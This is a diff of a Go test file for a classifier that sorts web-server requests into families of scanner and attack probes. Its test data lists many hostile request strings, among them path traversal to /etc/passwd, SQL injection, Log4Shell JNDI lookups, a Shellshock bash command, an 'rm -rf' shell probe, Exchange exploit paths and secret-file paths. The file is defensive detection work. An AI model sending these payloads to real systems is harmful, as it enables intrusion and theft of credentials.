@@ -20,26 +20,32 @@ func openFamilies(t testing.TB) *Families {
 	return f
 }
 
-// family returns the name of the family of a request, "" for none. A request is
-// METHOD PATH?QUERY AGENT, of which the first and the last may be missing.
+// family returns the name of the family of a request, "" for none.
 func (f *Families) family(request string) string {
-	method, rest, ok := strings.Cut(request, " ")
-	if !ok {
-		method, rest = "GET", request
-	}
-	target, agent, ok := strings.Cut(rest, " ")
-	if !ok {
-		agent = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/126.0.0.0+Safari/537.36"
-	}
-	path, query, ok := strings.Cut(target, "?")
-	if !ok {
-		query = "-"
-	}
-	family, found := f.Match([]byte(method), []byte(path), []byte(query), []byte(agent))
+	method, path, query, agent := parts(request)
+	family, found := f.Match(method, path, query, agent)
 	if !found {
 		family = None
 	}
 	return f.Name(family)
+}
+
+// parts takes a request apart that is written METHOD PATH?QUERY AGENT, of which the
+// first and the last may be missing.
+func parts(request string) (method, path, query, agent []byte) {
+	verb, rest, ok := strings.Cut(request, " ")
+	if !ok {
+		verb, rest = "GET", request
+	}
+	target, browser, ok := strings.Cut(rest, " ")
+	if !ok {
+		browser = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/126.0.0.0+Safari/537.36"
+	}
+	stem, asked, ok := strings.Cut(target, "?")
+	if !ok {
+		asked = "-"
+	}
+	return []byte(verb), []byte(stem), []byte(asked), []byte(browser)
 }
 
 func TestProbesAreKnown(t *testing.T) {
@@ -53,8 +59,9 @@ func TestProbesAreKnown(t *testing.T) {
 		}
 	}
 	f("browser-files", "/favicon.ico", "/FAVICON.ICO", "/app/favicon.ico", "/robots.txt", "/apple-touch-icon-120x120-precomposed.png",
-		"/sitemap.xml", "/ads.txt", "/.well-known/security.txt", "/.well-known/appspecific/com.chrome.devtools.json", "/browserconfig.xml")
+		"/sitemap.xml", "/ads.txt", "/.well-known/security.txt", "/.well-known/something-new/x.json", "/.well-known/appspecific/com.chrome.devtools.json", "/browserconfig.xml")
 	f("php-probes", "/index.php", "/upl.php", "/uc_server2/admin.php?m=user&a=login", "/a/index.php/b/c", "/x.phtml", "/INDEX.PHP")
+	f("php-probes", "/.well-known/acme-challenge/x.php")
 	f("cgi-probes", "/cgi-bin/test", "/cgi-bin", "/status.cgi", "/cgi-bin/formmail.pl")
 	f("java-pages", "/index.jsp", "/a/b.jspx")
 	f("odd-methods", "TRACE / -", "TRACK / -", "connect example.com:443 -", "MGLNDD_192.0.2.1_80 / -", "SEARCH / -")
@@ -62,30 +69,36 @@ func TestProbesAreKnown(t *testing.T) {
 	f("other-cms", "/administrator/", "/index.html?option=com_content", "/joomla/", "/drupal", "/bbs/uc_server/admin.php", "/phpbb/")
 	f("wordpress", "/wp-login.php", "/blog/wp-includes/wlwmanifest.xml", "/wp-admin/", "/wp-content/plugins/x/readme.txt", "/xmlrpc.php?rsd", "/WP/", "/wordpress", "/wp-config.php.swo")
 	f("php-tools", "/phpmyadmin/", "/phpMyAdmin-5.1/index.php", "/pma/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution",
-		"/?XDEBUG_SESSION_START=phpstorm", "/hello.world?%ADd+allow_url_include%3d1", "/index.php?s=/index/think/app/invokefunction", "/phpinfo.php")
+		"/?XDEBUG_SESSION_START=phpstorm", "/index.php?s=/index/think/app/invokefunction", "/phpinfo.php")
 	f("java-servers", "/manager/html", "/actuator", "/app/actuator/env", "/actuator/health", "/solr/admin/info/system?wt=json", "/jenkins/login", "/struts2-showcase/index.action",
 		"/wls-wsat/CoordinatorPortType", "/geoserver/web/", "/login.action", "/nacos/v1/auth/users")
-	f("backup-files", "/backup.zip", "/www.rar", "/backup/www.zip", "/html_backup.zip", "/wp-content.zip", "/backup2024.zip", "/web.old", "/default.aspx.bak", "/dump.sql", "/shop.com.zip", "/a/site.tar.gz", "/Default.aspx~")
+	f("backup-files", "/backup.zip", "/www.rar", "/backup/www.zip", "/wp-content.zip", "/backup2024.zip", "/default.aspx.bak", "/dump.sql", "/mail/backup.pst", "/data/crm.mdf", "/a/site.tar.gz", "/Default.aspx~")
+	f("guessed-archives", "/shop.com.zip", "/web.old", "/1.zip", "/html_backup.zip")
+	f("build-files", "/Dockerfile", "/docker-compose.yml", "/.vscode/settings.json")
+	f("upload-pages", "/ueditor/net/controller.ashx", "/Telerik.Web.UI.WebResource.axd?type=rau", "/moveitisapi/moveitisapi.dll?action=capa")
+	f("odd-queries", "/search.aspx?q=%3Cscript%3E", "/static/..%5Cx", "/item.aspx?id=1%27", "/item.aspx?id=1+and+1%3D2", "/a?file=x/etc/passwd")
+	f("product-exploits", "POST /moveitisapi/moveitisapi.dll?action=m2 -", "/human2.aspx", "/SetupWizard.aspx/x")
 	f("random-names", "/aaa9", "/nmaplowercheck1719842312", "/nice+ports,/Trinity.txt.bak")
 	f("secret-files", "/.env", "/.env.production", "/api/.env", "/.git/config", "/.gitignore", "/.DS_Store", "/.aws/credentials", "/.ssh/id_rsa", "/web.config", "/web.config.bak",
-		"/.vscode/sftp.json", "/prod.env", "/docker-compose.yml")
+		"/.vscode/sftp.json", "/prod.env", "/keys/server.pfx")
 	f("network-devices", "/boaform/admin/formLogin", "/HNAP1/", "/HNAP1", "/GponForm/diag_Form?images/", "/cgi-bin/luci/;stok=/locale", "/setup.cgi?next_file=netgear.cfg", "/shell?cd+/tmp;rm+-rf+*", "/SDK/webLanguage")
-	f("vpn-gateways", "/remote/login", "/remote/fgt_lang?lang=en", "/dana-na/auth/url_default/welcome.cgi", "/+CSCOE+/logon.html", "/vpn/index.html", "/global-protect/login.esp", "/tmui/login.jsp",
-		"SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ -")
+	f("vpn-gateways", "/remote/login", "/remote/fgt_lang?lang=en", "/dana-na/auth/url_default/welcome.cgi", "/+CSCOE+/logon.html", "/vpn/index.html", "/global-protect/login.esp", "/tmui/login.jsp")
 	f("microsoft-exploits", "/autodiscover/autodiscover.json?@zdi/Powershell", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
 		"/owa/auth/x.js", "/ecp/y.js", "/_layouts/15/spinstall0.aspx", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application")
-	f("iis-legacy", "/_vti_inf.html", "/_vti_bin/shtml.exe/_vti_rpc", "/_vti_bin/owssvr.dll?UL=1&ACT=4", "/MSOffice/cltreq.asp", "/scripts/root.exe?/c+dir", "/c/winnt/system32/cmd.exe?/c+dir",
-		"/default.ida?NNNNNNNN", "/NULL.printer", "/msadc/msadcs.dll", "/a*~1*/.aspx", "/default.asp::$DATA", "/trace.axd")
+	f("iis-legacy", "/_vti_inf.html", "/_vti_bin/shtml.exe/_vti_rpc", "/_vti_bin/owssvr.dll?UL=1&ACT=4", "/MSOffice/cltreq.asp", "/scripts/root.exe", "/c/winnt/system32/",
+		"/default.ida?NNNNNNNN", "/NULL.printer", "/msadc/msadcs.dll", "/_vti_pvt/service.cnf")
+	f("iis-pages", "/a*~1*/.aspx", "/?*~1*", "/app/ab*~2*/.aspx", "/default.asp::$DATA", "/trace.axd", "/elmah.axd")
 	f("open-services", "/api/v1/pods", "/v2/_catalog", "/latest/meta-data/iam/security-credentials/", "/_cat/indices", "/server-status", "/containers/json", "/query?q=SHOW+DATABASES")
 	f("web-shells", "/aspnet_client/shell.aspx", "/uploads/cmd.aspx", "/alfa.php", "/c99.php", "/owa/auth/OutlookEN.aspx", "/aspxspy2014.aspx")
 	f("injection", "/../../../etc/passwd", "/a/..%2f..%2fweb", "/static/..%5c..%5cx", "/item.aspx?id=1+UNION+SELECT+1,2", "/item.aspx?id=1%20union%20all%20select%201", "/?x=${jndi:ldap://192.0.2.1/a}",
-		"/?x=%24%7Bjndi:ldap", "/search.aspx?q=<script>alert(1)</script>", "/search.aspx?q=%3Cscript%3E", "/cgi-bin/.%2e/.%2e/bin/sh", "/scripts/..%c0%af../winnt/system32/cmd.exe", "/WEB-INF/web.xml",
+		"/?x=%24%7Bjndi:ldap", "/search.aspx?q=<script>alert(1)</script>", "/cgi-bin/.%2e/.%2e/bin/sh", "/scripts/..%c0%af../winnt/system32/cmd.exe", "/WEB-INF/web.xml",
 		"GET / ()+{+:;};+/bin/bash+-c+id", "GET / ${jndi:ldap://192.0.2.1/a}")
 	f("windows-discovery", "POST /StableWSDiscoveryEndpoint/schemas-xmlsoap-org_ws_2005_04_discovery WSDAPI", "POST /0c7a5f1e/ WSDAPI", "POST /StableWSDiscoveryEndpoint/x -",
 		"/wpad.dat", "/upnp/control/1", "NOTIFY / -", "/ipp/print")
 	f("scanner-agents", "GET / Mozilla/5.0+zgrab/0.x", "GET /favicon.ico Mozilla/5.0+(compatible;+CensysInspect/1.1;++https://about.censys.io/)", "GET /.env l9explore/1.2.2", "GET / masscan/1.3",
 		"GET / Expanse,+a+Palo+Alto+Networks+company", "GET /a.php sqlmap/1.7", "GET / Mozilla/5.00+(Nikto/2.1.6)", "OPTIONS / Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html)", "GET / Hello,+World", "GET / Hello, World")
 
+	seen["own-services"] = true // is no noise, see TestMissingPagesAreNoNoise
 	for i := range families.Count() {
 		assert.True(t, seen[families.Name(i)], "no probe of %s is tested", families.Name(i))
 	}
@@ -98,7 +111,7 @@ func TestMissingPagesAreNoNoise(t *testing.T) {
 		"/", "-", "", "/old/price-list.pdf", "/old/", "/app/login.aspx", "/images/logo.png", "/api/orders/42", "/help.html", "/Scripts/samples/a.js",
 		"/default.aspx?ReturnUrl=%2fadmin%2f", "/app/login.aspx?ReturnUrl=..%2fdefault.aspx", "/login.aspx?ReturnUrl=/wp-admin/", "/a.aspx?file=backup.zip", "/a.aspx?next=/x.php",
 		"/admin", "/admin/users", "/backup/", "/docs/backup/restore.html", "/downloads/setup.zip", "/downloads/images.zip", "/report.tar.gz", "/shop/", "/forum/", "/home", "/new/",
-		"/.well-known/acme-challenge/7KznDAw7MCAexPn", "/.well-known/pki-validation/fileauth.txt", "/.well-known/openid-configuration", "/.well-known/mta-sts.txt",
+		"/.well-known/acme-challenge/7KznDAw7MCAexPn", "/.well-known/pki-validation/fileauth.txt", "/.well-known/openid-configuration", "/.well-known/mta-sts.txt", "/.well-known/oauth-authorization-server", "/.well-known/est/cacerts", "/.well-known/acme-challenge/",
 		"/owa/", "/owa/auth/logon.aspx?replaceCurrent=1", "/ecp/", "/autodiscover/autodiscover.xml", "/autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync", "/autodiscover/autodiscover.json/v1.0/a@example.com",
 		"/EWS/Exchange.asmx", "/mapi/emsmdb/?MailboxId=x@example.com", "/rpc/rpcproxy.dll?mail:6001", "RPC_IN_DATA /rpc/rpcproxy.dll?mail:6001 MSRPC", "/Microsoft-Server-ActiveSync?Cmd=Sync&User=a",
 		"/_vti_bin/lists.asmx", "/_layouts/15/start.aspx", "/_api/web/lists", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "/WebResource.axd?d=x", "/ScriptResource.axd",
@@ -173,18 +186,19 @@ func TestAddFamiliesErrors(t *testing.T) {
 	f("", "own.tsv:1: expected the header family<TAB>kind<TAB>pattern, found the end of the file")
 	f(head+"x\tpath", "own.tsv:3: expected 3 cells between tabs, found 2")
 	f(head+"X y\tpath\t/a", `own.tsv:3: expected a family of small letters, digits and hyphens, found "X y"`)
-	f(head+"x\tquery\ta=b", `own.tsv:3: expected the kind path, segment, part, agent, method or off, found "query"`)
+	f(head+"x\tquery\ta=b", `own.tsv:3: expected the kind path, segment, part, code, agent, method, port, is or off, found "query"`)
 	f(head+"x\tpath\tab", `own.tsv:3: expected a pattern of kind path, such as /favicon.ico, /manager/* or *.bak, found "ab"`)
 	f(head+"x\tpath\t/*", "own.tsv:3: expected a pattern of kind path")
 	f(head+"x\tsegment\ta/b", "own.tsv:3: expected a pattern of kind segment, such as .git or phpmyadmin*")
 	f(head+"x\tpart\t", "own.tsv:3: expected a pattern of kind part")
 	f(head+"x\tagent\t-", "own.tsv:3: expected a pattern of kind agent")
+	f(head+"x\tport\t65536", "own.tsv:3: expected a pattern of kind port, such as 5357")
 	f(head+"x\tmethod\t*ACE", "own.tsv:3: expected a pattern of kind method, such as TRACK")
 	f(head+"x\toff\t*", "own.tsv:3: expected a pattern of kind off, such as -")
 	f(head+"y\toff\t-", `own.tsv:3: expected a family that is there to switch off, found "y"`)
 	f(head+"x\tpart\ta\x00b", "own.tsv:3: expected printable text")
 	f(head+"x\tpart\ta\xffb", "own.tsv:3: expected UTF-8")
-	f(head+"x\tpart\t"+strings.Repeat("ab", 40000), "own.tsv:3: expected patterns of at most 65536 bytes in all, found more")
+	f(head+"x\tpart\t"+strings.Repeat("ab", 80000), "own.tsv:3: expected patterns of at most 131072 bytes in all, found more")
 	f(strings.Repeat("#", customLimit+1), "own.tsv:1: expected a table of at most 4 MiB, found more")
 	assert.ErrorIs(t, families.Add("own.tsv", iotest.ErrReader(os.ErrClosed)), os.ErrClosed)
 	assert.Empty(t, families.family("/never-seen"), "after an error nothing has changed")
@@ -217,7 +231,7 @@ func TestAutomatonFindsWhatASearchFinds(t *testing.T) {
 		for family := range 4 {
 			patterns = append(patterns, noisePattern{family, "part", word(4)}, noisePattern{family, "method", word(4)})
 		}
-		f := Families{automaton: newAutomaton(patterns, 1<<8)}
+		a := newAutomaton(patterns)
 		for range 30 {
 			method, path, query := word(4), "/"+word(12), word(12)
 			want := None
@@ -228,7 +242,7 @@ func TestAutomatonFindsWhatASearchFinds(t *testing.T) {
 					want = max(want, p.family)
 				}
 			}
-			got, _ := f.Match([]byte(method), []byte(path), []byte(query), nil)
+			got, _ := a.match([]byte(method), []byte(path), []byte(query), nil)
 			assert.Equal(t, want, got, "%q %q %q in %v", method, path, query, patterns)
 		}
 	}
@@ -249,7 +263,8 @@ func TestNoiseIsSortedAndUnique(t *testing.T) {
 		assert.Equal(t, strings.ToLower(pattern), pattern, "%s:%d", r.table, r.line)
 		assert.NotContains(t, pattern, " ", "%s:%d: + stands for a blank", r.table, r.line)
 		if before != nil && before[0] == family {
-			assert.Negative(t, slices.Compare(before, r.cells), "%s:%d: %v must come before %v", r.table, r.line, r.cells, before)
+			assert.NotEqual(t, "is", r.cells[1], "%s:%d: what a family is stands first", r.table, r.line)
+			assert.True(t, before[1] == "is" || slices.Compare(before, r.cells) < 0, "%s:%d: %v must come before %v", r.table, r.line, r.cells, before)
 		} else {
 			assert.False(t, done[family], "%s:%d: the lines of %s must stand together", r.table, r.line, family)
 			done[family] = true
